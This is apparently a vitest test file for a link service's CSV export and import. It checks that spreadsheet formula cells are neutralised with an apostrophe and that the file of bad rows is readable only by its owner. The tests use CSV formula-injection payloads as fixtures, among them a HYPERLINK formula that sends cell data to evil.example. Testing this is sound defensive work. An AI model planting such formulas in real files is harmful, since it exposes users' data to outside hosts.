import { readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseCsv, readRecord, toCsvLine, withFormula, withoutFormula } from '../../../hosts/import/csv.ts'
import { runInProcess } from '../cli/in-process.ts'
import { operator } from '../cli/shortlink.ts'

describe('a cell that a spreadsheet would run', () => {
  it.each(['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\r1', '\n1', '＝1+1', "'=1", "''-2"])(
    'a cell that a spreadsheet would run gets an apostrophe in front: %j',
    (cell) => {
      expect(withoutFormula(cell)).toBe(`'${cell}`)
      expect(withFormula(`'${cell}`)).toBe(cell)
    },
  )

  it.each([
    ['https://a.example/;=1+1', "https://a.example/;'=1+1"],
    ['x\t=1+1', "x\t'=1+1"],
    ['x|@SUM(A1)', "x|'@SUM(A1)"],
    ['a\n- b\r\n+1', "a\n'- b\r\n'+1"],
    ['x;"=1+1"', `x;'"=1+1"`],
    ["x;'=1", "x;''=1"],
    ['\t=1', "'\t'=1"],
  ])('a formula behind another separator or a line end gets an apostrophe, too: %j', (cell, guarded) => {
    expect(withoutFormula(cell)).toBe(guarded)
    expect(withFormula(guarded)).toBe(cell)
    expect(toCsvLine([guarded])).toMatch(/^".*"\r\n$/s)
  })

  it.each(['', 'a=1', 'https://example.com/', "'tis", "'", '2026-01-01', 'Mozilla/5.0 (X11; Linux; +http)', 'a;b|c'])(
    'a harmless cell stays as it is: %j',
    (cell) => {
      expect(withoutFormula(cell)).toBe(cell)
      expect(withFormula(cell)).toBe(cell)
    },
  )

  it('every text survives escaping and reading back', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom("'", '=', '-', '+', '@', '\t', '\r', '\n', ',', ';', '|', '"', 'a') }),
    )
    fc.assert(
      fc.property(fc.array(cell, { minLength: 2, maxLength: 4 }), (cells) => {
        const [read = []] = parseCsv(toCsvLine(cells.map(withoutFormula)))
        expect(read.map(withFormula)).toEqual(cells)
        for (const cell of read) expect(cell).not.toMatch(/^[\t\r]|(?:^|[;|\t\r\n])[=+\-@]/)
        const line = toCsvLine(cells.map(withoutFormula))
        for (const separator of [';', '\t', '|'])
          expect(cellsOf(line, separator).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
      }),
    )
  })
})

/** The cells that a spreadsheet sees which splits at another separator, where quotes may stay open. */
function cellsOf(line: string, separator: string): string[] {
  const cells: string[] = []
  for (let at = 0; at < line.length; ) {
    const { values, end } = readRecord(`${line}"`, at, true, separator) ?? { values: [], end: line.length }
    cells.push(...values)
    at = end
  }
  return cells
}

it('an export runs nothing in a spreadsheet and imports without loss, and only the owner can read the file of bad rows', async () => {
  const title = `=HYPERLINK("http://evil.example/?"&A1,"click")`
  const links = [
    { slug: '-2', target: 'https://example.com/2', title },
    { slug: 'plain', target: 'https://example.com/1', title: "'=kept" },
  ]
  const ADA = ['--user', 'ada@example.com']
  const source = await operator('sqlite', runInProcess)
  const given = join(source.folder, 'given.json')
  writeFileSync(given, JSON.stringify(links))
  await source.run('link', 'import', given, ...ADA, '--apply')

  const [csv, raw] = [join(source.folder, 'links.csv'), join(source.folder, 'raw.csv')]
  await source.run('link', 'export', csv, ...ADA)
  await source.run('link', 'export', raw, ...ADA, '--raw')
  const rows = (file: string) => parseCsv(readFileSync(file, 'utf8')).slice(1)
  const shown = rows(csv).map(([slug, , title]) => [slug, title])
  expect(shown.sort()).toEqual([
    ["'-2", `'${title}`],
    ['plain', "''=kept"],
  ])
  expect(
    rows(raw)
      .map(([slug, , title]) => [slug, title])
      .sort(),
  ).toEqual([
    ['-2', title],
    ['plain', "'=kept"],
  ])

  for (const [file, ...how] of [[csv], [raw, '--raw']] as [string, ...string[]][]) {
    const copy = await operator('sqlite', runInProcess)
    await copy.run('link', 'import', file, ...ADA, ...how, '--apply')
    const { stdout } = await copy.run('link', 'list', ...ADA, '--json')
    const came = (JSON.parse(stdout).items as typeof links).map(({ slug, target, title }) => ({ slug, target, title }))
    expect(came.sort((a, b) => (a.slug < b.slug ? -1 : 1))).toEqual(links)
  }

  writeFileSync(given, JSON.stringify([{ slug: '=cmd()', target: '@SUM(1)' }]))
  await source.run('link', 'import', given, ...ADA)
  expect(rows(`${given}.errors.csv`)[0]?.slice(0, 3)).toEqual(['1', "'=cmd()", "'@SUM(1)"])
  expect(statSync(`${given}.errors.csv`).mode & 0o777).toBe(0o600)
})
